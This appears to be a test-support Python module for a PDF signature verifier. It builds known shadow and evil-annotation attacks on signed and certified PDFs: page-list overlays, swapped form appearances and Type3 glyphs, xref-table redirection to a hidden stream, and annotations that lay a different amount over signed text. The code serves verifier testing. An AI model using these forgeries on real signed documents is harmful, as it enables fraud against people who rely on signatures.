"""The other published variants of the shadow attacks, and of attacks on papers that were certified with rights.

As in `shadow`: `prepare` makes what the victim signs, `strike` is what the attacker does afterwards.
"""

import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from tests.verifier.attacks import Name, appended, first_page, stream
from tests.verifier.shadow import numbers

OTHER = b"BT /F1 12 Tf 100 650 Td (Von: 9 dong) Tj ET"


def sheet_prepare(writer: IncrementalPdfFileWriter) -> None:
    """A second page lies over the first in the list of pages; it is what the victim sees first."""
    page = first_page(writer)
    cover = generic.DictionaryObject({key: value for key, value in page.items() if key != "/Annots"})
    cover[Name("/Contents")] = stream(writer, b"BT /F1 12 Tf 100 700 Td (To bia) Tj ET")
    pages = writer.root["/Pages"]
    pages["/Kids"].insert(0, writer.add_object(cover))
    pages[Name("/Count")] = generic.NumberObject(2)
    writer.update_container(pages)


def sheet_strike(writer: IncrementalPdfFileWriter) -> None:
    """Hide, by references: the covering page leaves the list."""
    pages = writer.root["/Pages"]
    pages[Name("/Kids")] = generic.ArrayObject([pages["/Kids"].raw_get(1)])
    pages[Name("/Count")] = generic.NumberObject(1)
    writer.update_container(pages)


def overlay_out_of_contents(writer: IncrementalPdfFileWriter) -> None:
    """Hide, by references: the white sheet's name leads to another, empty object."""
    page = first_page(writer)
    box = {"Type": Name("/XObject"), "Subtype": Name("/Form"), "BBox": numbers(0, 0, 1, 1)}
    page["/Resources"]["/XObject"][Name("/Sheet")] = stream(writer, b"", **box)
    writer.update_container(page["/Resources"])


def value_strike(writer: IncrementalPdfFileWriter) -> None:
    """Replace, by a text field: its look changes and its value stays."""
    for reference in writer.root["/AcroForm"]["/Fields"]:
        field = reference.get_object()
        if field.get("/FT") == "/Tx":
            box = {"Type": Name("/XObject"), "Subtype": Name("/Form"), "BBox": numbers(0, 0, 200, 20)}
            field[Name("/AP")] = generic.DictionaryObject(
                {Name("/N"): stream(writer, b"BT /Helv 12 Tf 2 6 Td (9 dong) Tj ET", **box)}
            )
            writer.update_container(field)


def font_prepare(writer: IncrementalPdfFileWriter) -> None:
    """The page's text is written in a font whose glyphs are drawn in the file."""
    page = first_page(writer)
    glyph = stream(writer, b"600 0 d0 0 0 500 700 re f")
    font = generic.DictionaryObject(
        {
            Name("/Type"): Name("/Font"),
            Name("/Subtype"): Name("/Type3"),
            Name("/FontBBox"): numbers(0, 0, 600, 700),
            Name("/FontMatrix"): numbers(0.001, 0, 0, 0.001, 0, 0),
            Name("/CharProcs"): generic.DictionaryObject({Name("/one"): glyph}),
            Name("/Encoding"): generic.DictionaryObject(
                {Name("/Differences"): generic.ArrayObject([generic.NumberObject(49), Name("/one")])}
            ),
            Name("/FirstChar"): generic.NumberObject(49),
            Name("/LastChar"): generic.NumberObject(49),
            Name("/Widths"): generic.ArrayObject([generic.NumberObject(600)]),
        }
    )
    page["/Resources"]["/Font"][Name("/Own")] = writer.add_object(font)
    text = stream(writer, b"BT /Own 12 Tf 100 600 Td (111) Tj ET")
    page[Name("/Contents")] = generic.ArrayObject([page.raw_get("/Contents"), text])
    writer.update_container(page["/Resources"]["/Font"])
    writer.update_container(page)


def font_strike(writer: IncrementalPdfFileWriter) -> None:
    """Replace, by the font: the glyph is drawn otherwise."""
    font = first_page(writer)["/Resources"]["/Font"]["/Own"]
    glyph = font["/CharProcs"]["/one"]
    glyph._data, glyph._encoded_data = b"600 0 d0 0 0 100 100 re f", None
    writer.update_container(glyph)


def hidden_prepare(writer: IncrementalPdfFileWriter) -> None:
    """A content stream lies in the file that no page uses."""
    hidden = generic.StreamObject({Name("/SecondSealHidden"): generic.BooleanObject(True)}, stream_data=OTHER)
    writer.add_object(hidden)


def table_strike(pdf: bytes) -> bytes:
    """Hide and replace, by the table alone: the page's content stream's number now leads to the hidden object's body,
    which was signed; nothing else is appended."""
    page = re.findall(rb"/Contents (\d+) 0 R", pdf)[-1]
    hidden = [match.start() for match in re.finditer(rb"\d+ 0 obj\s*<<\s*/SecondSealHidden", pdf)][-1]
    old = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
    size = max(int(number) for number in re.findall(rb"/Size (\d+)", pdf))
    root = re.findall(rb"/Root (\d+ \d+ R)", pdf)[-1]
    table = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<</Size %d/Root %s/Prev %s>>\n" % (
        int(page),
        hidden,
        size,
        root,
        old,
    )
    return pdf + table + b"startxref\n%d\n%%%%EOF\n" % len(pdf)


def kind_strike(writer: IncrementalPdfFileWriter) -> None:
    """Hide and replace, by use: the hidden stream takes the content stream's place in the page."""
    for number in range(1, 80):
        try:
            entry = writer.get_object(generic.Reference(number, 0, writer.prev))
        except Exception:  # noqa: BLE001 - numbers that do not exist
            continue
        if isinstance(entry, generic.StreamObject) and "/SecondSealHidden" in entry:
            page = first_page(writer)
            page[Name("/Contents")] = generic.IndirectObject(number, 0, writer)
            writer.update_container(page)


def annotation(pdf: bytes, kind: str, **entries: generic.PdfObject) -> bytes:
    """An annotation with a look of its own over the amount."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        page = first_page(writer)
        box = {"Type": Name("/XObject"), "Subtype": Name("/Form"), "BBox": numbers(0, 0, 205, 25)}
        look = stream(writer, b"1 g 0 0 205 25 re f 0 g BT /Helv 12 Tf 5 10 Td (Von: 9 dong) Tj ET", **box)
        note = generic.DictionaryObject(
            {
                Name("/Type"): Name("/Annot"),
                Name("/Subtype"): Name("/" + kind),
                Name("/Rect"): numbers(95, 640, 300, 665),
                Name("/F"): generic.NumberObject(4),
                Name("/AP"): generic.DictionaryObject({Name("/N"): look}),
            }
        )
        note.update({Name("/" + key): value for key, value in entries.items()})
        annotations = page.get("/Annots") or generic.ArrayObject()
        annotations = annotations.get_object() if isinstance(annotations, generic.IndirectObject) else annotations
        page[Name("/Annots")] = generic.ArrayObject([*annotations, writer.add_object(note)])
        writer.update_container(page)

    return appended(pdf, edit)


def stamp(pdf: bytes) -> bytes:
    """Evil annotation: a stamp."""
    return annotation(pdf, "Stamp")


def highlight(pdf: bytes) -> bytes:
    """Evil annotation: marked text, whose look is a white sheet with another amount."""
    return annotation(pdf, "Highlight", QuadPoints=numbers(95, 665, 300, 665, 95, 640, 300, 640))


def link(pdf: bytes) -> bytes:
    """An annotation that leads elsewhere."""
    action = generic.DictionaryObject({Name("/S"): Name("/URI"), Name("/URI"): generic.pdf_string("http://127.0.0.1/")})
    return annotation(pdf, "Link", A=action)


def link_redrawn(pdf: bytes) -> bytes:
    """Evil annotation at second hand: an annotation whose look is a form field's, a push button."""
    return annotation(pdf, "Widget", FT=Name("/Btn"), T=generic.pdf_string("Nut"), Ff=generic.NumberObject(65536))
